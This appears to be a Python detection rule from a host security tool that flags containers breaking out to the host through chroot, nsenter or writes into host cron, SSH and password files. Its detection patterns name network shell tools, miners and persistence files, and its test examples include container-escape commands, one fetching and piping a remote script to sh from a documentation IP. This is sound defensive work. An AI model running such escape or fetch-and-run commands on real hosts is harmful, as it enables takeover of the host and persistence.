"""Containers whose own command leaves them: for the host's disk, or its namespaces."""

import re
from collections.abc import Iterable, Iterator

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.container_doors import (
    container_subjects,
    container_values,
    is_wide_open,
    root_mounts,
    scope_of,
)
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Container
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(en="A container breaks out to the host", zh="容器逃逸到宿主机"),
    summary=Text(
        en="Container {name} (image {image}) may touch the host ({doors}) and its command goes"
        " there: {command}",
        zh="容器 {name}（镜像 {image}）可访问宿主机（{doors}），启动命令直接操作宿主机：{command}",
    ),
    benign=Text(
        en="A maintenance container of an administrator or a node agent. It is named in the"
        " deployment's files, and its image is one the team builds or knows.",
        zh="可能是管理员的维护容器或节点代理；请核对部署清单，镜像应为团队自建或已知镜像。",
    ),
)
_ENTERS = re.compile(
    r"(?:^|[\s;&|'\"/])(?:chroot\s+(?:--\S+\s+)*(?P<root>/[\w./-]*)"
    r"|nsenter\s[^;|&]*?(?:(?:-t|--target)[ =]?1\b|/proc/1/ns)[^;|&]*?)(?:\s+--)?"
    r"(?P<rest>(?:\s.*)?)$",
    re.DOTALL,
)
_SHELL = re.compile(r"^\s*(?:(?:-\S+|--)\s+)*(?:/\S*/)?(?:ba|da|z|a|k)?sh\b|^\s*$")
_WRITES = re.compile(
    r"(?:>>?|\btee\b|\bcp\b|\bmv\b|\binstall\b|\bln\b|\bsed\s+-i|\bdd\b)[^;|&]*?"
    r"(?P<root>/[\w./-]*?)/?(?:etc/(?:cron|ld\.so\.preload|passwd|shadow|sudoers|profile|systemd"
    r"|rc\.local|pam\.d|ssh/)|var/spool/cron|(?:root|home/[^/\s]+)/\.(?:ssh|bash|profile))"
)
_CONCERN = re.compile(
    r"(?i)\b(?:curl|wget)\b|/dev/(?:tcp|udp)/|base64\s+(?:-d|--decode|-D)|\bcrontab\b|\.ssh/"
    r"|authorized_keys|ld\.so\.preload|/etc/cron|xmrig|stratum|\bn(?:c|cat)\b\s|\bsocat\b|useradd"
    r"|chpasswd|/etc/(?:passwd|shadow|sudoers)|bash\s+-i\b|\bpython\d?\s+-c|\bperl\s+-e"
)
_IDLE = re.compile(
    r"(?:/\S*/)?(?:sleep\s+\S+|tail\s+-f\s+/dev/null|(?:ba|a|da)?sh(?:\s+-i)?|cat)"
    r"|(?:/\S*/)?(?:ba|a|da)?sh -c (?:while\s+(?:true|:|sleep\s+\S+)\s*;.*|sleep\s+\S+"
    r"|tail\s+-f\s+/dev/null)"
)


def _container(command: str, **fields: object) -> Container:
    values: dict[str, object] = {
        "id": "c" * 64,
        "name": "x",
        "engine": "docker",
        "is_privileged": True,
        "mounts": ("/:/host:rw",),
        "source": Source(path=HostPath("/var/lib/docker/containers/c/config.v2.json")),
    }
    return Container(command=command, arguments=tuple(command.split()), **{**values, **fields})  # type: ignore[arg-type]  # an example


@check(
    "linux.container.breaks-out",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="container_escape",
    attack=("T1611", "T1610"),
    incident_types=("backdoor", "mining", "remote_control"),
    texts=TEXTS,
    next=("keep-evidence", "capture-process", "find-entry", "check-other-hosts", "rebuild-host"),
    by_hand="cat {place}; docker inspect {id} || podman inspect {id} || crictl inspect {id}",
    examples=(
        fires(_container("chroot /host sh -c id")),
        fires(_container("nsenter -t 1 -m -u -n -i sh", mounts=(), shares=("pid",))),
        fires(_container("sh -c echo x >> /host/root/.ssh/authorized_keys")),
        fires(_container("chroot /mnt bash -c curl http://198.51.100.7/a|sh", has_terminal=True)),
        fires(_container("sleep infinity", restart="always")),
        quiet(_container("node_exporter --path.rootfs=/host")),
        quiet(
            _container(
                "nsenter --cgroup=/hostproc/1/ns/cgroup --mount=/hostproc/1/ns/mnt"
                " /opt/cni/bin/cilium-mount /run/cilium/cgroupv2",
                pod="kube-system/cilium-x",
            )
        ),
        quiet(_container("chroot /host sh -c id", is_privileged=False, mounts=())),
        quiet(_container("sleep infinity", mounts=())),
        quiet(_container("sleep infinity", mounts=("/:/rootfs:ro",), is_privileged=False)),
    ),
)
def breaks_out(containers: Iterable[Container]) -> Iterator[Claim]:
    """A door to the host, and a command that goes through it.

    A terminal tells an administrator at work, a pod a node agent of the cluster: low for both,
    unless what runs on the host fetches, opens a shell to the network or plants a way back in.
    """
    for each in containers:
        level = _level(each)
        if level is None:
            continue
        yield Claim(
            subjects=container_subjects(each),
            because=(each,),
            values=container_values(each),
            level=level,
            first_seen=each.started or each.created,
            scope=scope_of(each),
        )


def _level(each: Container) -> Level | None:
    if not is_wide_open(each):
        return None
    command = each.command[:20_000]
    if _writes_into_host(each, command):
        return Level.HIGH
    entered = _ENTERS.search(command)
    if entered is None:
        return _idle_level(each, command)
    if entered["root"] and not _is_host_folder(each, entered["root"]):
        return None
    if _CONCERN.search(entered["rest"]):
        return Level.HIGH
    if not _SHELL.match(entered["rest"]):
        return None
    is_ordinary = each.has_terminal or (each.pod and each.engine != "static-pod")
    return Level.LOW if is_ordinary else Level.HIGH


def _writes_into_host(each: Container, command: str) -> bool:
    """Whether it writes a place that starts or admits something, below the host's own disk."""
    return any(
        any(found["root"].rstrip("/") == mount.target.rstrip("/") for mount in root_mounts(each))
        for found in _WRITES.finditer(command)
    )


def _is_host_folder(each: Container, folder: str) -> bool:
    """Whether chroot goes to the host's disk; a privileged container may have mounted it itself."""
    mounts = {mount.target.rstrip("/") for mount in root_mounts(each)}
    return folder.rstrip("/") in mounts or each.is_privileged


def _idle_level(each: Container, command: str) -> Level | None:
    """A container that does nothing but keep the host's disk and every right at hand."""
    if not root_mounts(each) or not (each.is_privileged or "pid" in each.shares):
        return None
    is_left = each.restart in ("always", "unless-stopped", "on-failure") and not each.has_terminal
    if not _IDLE.fullmatch(command.strip()) or not is_left:
        return None
    return Level.MEDIUM if each.engine == "static-pod" or not each.pod else None
